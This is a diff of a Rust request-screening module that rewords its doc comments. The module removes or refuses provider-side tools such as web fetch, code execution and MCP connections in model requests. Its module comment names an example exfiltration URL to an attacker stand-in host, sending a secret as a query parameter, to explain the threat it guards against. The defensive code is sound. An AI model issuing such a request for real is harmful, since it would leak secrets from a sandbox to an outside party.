@@ -1,12 +1,13 @@
-//! Screens requests to models for work that the provider would do on its own machines.
+//! Screens model requests for work that the provider would do on its own machines.
 //!
-//! A request can make the provider fetch `https://evil.example/?d=SECRET`, search the web, run code or
-//! connect to an MCP server: a way out of the sandbox that no allowlist sees. Each wire has an allowlist
-//! of what stays between client and model. Everything else needs the permission of its
-//! [`ProviderTool`] kind: tools and parameters without permission are removed from the request, and a
-//! request that names URLs, MCP servers or stored files is refused.
+//! A request can cause the provider to fetch `https://evil.example/?d=SECRET`, search the web, run
+//! code or connect to an MCP server: an exit from the sandbox that no allowlist covers. Each wire
+//! format has an allowlist of features that only affect client and model. Everything else needs the
+//! permission of its [`ProviderTool`] kind: tools and parameters without permission are removed
+//! from the request, and a request that names URLs, MCP servers or stored files is refused.
 //!
-//! [`screen`] is pure. `anthropic`, `chat` and `responses` know the wires; `remote` the fields that all share.
+//! [`screen`] is pure. `anthropic`, `chat` and `responses` implement the wire formats; `remote`
+//! handles the fields that they share.
 
 mod anthropic;
 mod chat;
@@ -24,24 +25,23 @@ use serde_json::{Map, Value};
 use crate::audit::sanitize_text;
 use crate::meter::ModelWireFormat;
 
-/// How many different findings of one request are reported. What is removed or refused is not bounded.
+/// The number of distinct findings reported per request. Removals and refusals are not limited.
 const MAX_FINDINGS: usize = 32;
-/// How much of a name in a request is repeated, in characters.
+/// The maximum length of a name quoted from a request, in characters.
 const MAX_NAME_CHARS: usize = 64;
 
-/// A provider-side tool that a request asked for, and what became of it.
+/// A provider-side tool that a request asked for, and the action taken.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ProviderToolUse {
-    /// The permission that it needs; none means that no permission lets it pass.
+    /// The required permission; `None` means that no permission allows it.
     pub kind: Option<ProviderTool>,
-    /// The part of the request: a tool, a parameter, the host of a URL.
+    /// The part of the request: a tool, a parameter or the host of a URL.
     pub what: String,
-    /// The decision.
     pub action: ProviderToolAction,
 }
 
 impl ProviderToolUse {
-    /// Returns the reason for the client, in one line.
+    /// Returns the one-line reason for the client.
     pub(super) fn reason(&self) -> String {
         let what = &self.what;
         match self.kind {
@@ -60,21 +60,20 @@ impl ProviderToolUse {
 /// The result of screening a request.
 #[derive(Debug, Default, PartialEq, Eq)]
 pub(super) struct Screening {
-    /// What was found, each once.
+    /// The distinct findings.
     pub(super) findings: Vec<ProviderToolUse>,
-    /// Whether the request is different now.
     pub(super) is_changed: bool,
     refused: Option<ProviderToolUse>,
 }
 
 impl Screening {
-    /// Returns the first finding because of which the request must not be sent.
+    /// Returns the first finding that refuses the request.
     pub(super) fn refused(&self) -> Option<&ProviderToolUse> {
         self.refused.as_ref()
     }
 }
 
-/// Removes provider-side tools that are not allowed from a request, and reports all that it found.
+/// Removes provider-side tools that are not allowed from a request and reports all findings.
 pub(super) fn screen(
     wire: ModelWireFormat,
     request: &mut Map<String, Value>,
@@ -103,7 +102,7 @@ impl Screener<'_> {
         self.decide(kind, what.into(), ProviderToolAction::Refused);
     }
 
-    /// Returns whether a part may stay in the request. The caller removes it otherwise.
+    /// Returns whether a part may stay in the request; otherwise the caller removes it.
     fn keep_if_allowed(&mut self, kind: Option<ProviderTool>, what: impl Into<String>) -> bool {
         self.decide(kind, what.into(), ProviderToolAction::Removed)
     }
@@ -132,8 +131,8 @@ impl Screener<'_> {
         is_allowed
     }
 
-    /// Removes the parameters of a request that are in neither list, and those in the second one unless
-    /// their kind is allowed. A parameter without a value asks for nothing.
+    /// Removes parameters that are in neither list, and those in the second list unless their kind
+    /// is allowed. A `null` parameter has no effect and is not screened.
     fn screen_parameters(
         &mut self,
         request: &mut Map<String, Value>,
@@ -154,14 +153,14 @@ impl Screener<'_> {
         }
     }
 
-    /// Refuses a part of a kind that this program does not know.
+    /// Refuses a part of an unknown type.
     fn refuse_unknown(&mut self, what: &str, type_name: Option<&str>) {
         let name = quoted(type_name.unwrap_or("without a type"));
         self.refuse(Some(ProviderTool::Parameters), format!("{what} {name}"));
     }
 }
 
-/// Returns a name from a request as a record can repeat it.
+/// Returns a name from a request, quoted and sanitized for a record.
 fn quoted(name: &str) -> String {
     let name: String = name.chars().take(MAX_NAME_CHARS).collect();
     format!("`{}`", sanitize_text(&name))
@@ -172,7 +171,7 @@ fn type_of(part: &Value) -> Option<&str> {
     part.get("type").and_then(Value::as_str)
 }
 
-/// Returns the parts of a list; a single part counts as a list of one, and text has none.
+/// Returns the parts of a list. A single part counts as a list of one; text has no parts.
 fn content_parts(content: &Value) -> &[Value] {
     match content {
         Value::Array(parts) => parts,
